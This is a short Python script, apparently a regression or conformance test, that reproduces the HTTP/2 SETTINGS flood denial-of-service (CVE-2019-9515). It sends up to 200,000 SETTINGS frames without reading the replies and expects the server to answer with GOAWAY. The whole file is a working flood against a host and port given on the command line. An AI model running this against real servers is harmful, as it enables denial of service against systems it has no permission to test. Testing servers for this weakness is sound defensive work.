#!/usr/bin/python3
"""SETTINGS flood (CVE-2019-9515) from a client that does not read: every
SETTINGS makes the server owe an ACK.

usage: settings_flood.py HOST PORT [FRAMES=200000]
Expected: GOAWAY ENHANCE_YOUR_CALM once 1000 acknowledgements are owed.
"""
from h2raw import Conn, args, settings

host, port, n = args("settings_flood.py HOST PORT [FRAMES]")
n = n or 200_000
c = Conn("settings_flood", host, port, timeout=2.0)
batch = settings() * 1000
sent = 0
# Not reading: the acknowledgements pile up on the server's side of the socket.
while sent < n and c.send(batch, frames=1000):
    sent += 1000
c.wait_goaway()
c.finish()
